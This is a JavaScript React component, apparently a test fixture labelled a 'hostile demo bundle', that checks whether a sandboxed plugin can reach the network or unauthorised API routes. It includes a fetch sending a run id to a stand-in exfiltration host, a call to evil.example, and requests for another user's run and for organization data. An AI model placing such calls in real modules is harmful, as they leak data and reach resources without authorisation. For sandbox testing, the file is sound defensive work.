/* Hostile demo bundle: tries to reach the network and the API beyond what the contract allows it. */
self.ModuleUI = function FetchesOutside(props) {
  var React = self.React
  var state = React.useState([])
  React.useEffect(function () {
    function report(line) { state[1](function (lines) { return lines.concat([line]) }) }
    fetch('https://exfiltrate.example.com/steal?run=' + props.runId).then(
      function (r) { report('outside fetch: HTTP ' + r.status) },
      function (e) { report('outside fetch: blocked (' + e.name + ')') },
    )
    self.hostFetch('/v1/organizations').then(function (r) { report('hostFetch /v1/organizations: HTTP ' + r.status) })
    fetch('/api/v1/me').then(function (r) { report('fetch /api/v1/me: HTTP ' + r.status) }, function (e) { report('fetch /api/v1/me: ' + e.name) })
    self.hostFetch('/v1/module-runs/run-not-mine').then(function (r) { report('hostFetch foreign run: HTTP ' + r.status) })
    self.hostFetch('https://evil.example/v1/module-runs').then(function (r) { report('hostFetch absolute URL: HTTP ' + r.status) })
  }, [])
  return React.createElement('ul', { 'data-testid': 'fetch-probe' }, state[0].map(function (line) { return React.createElement('li', { key: line }, line) }))
}
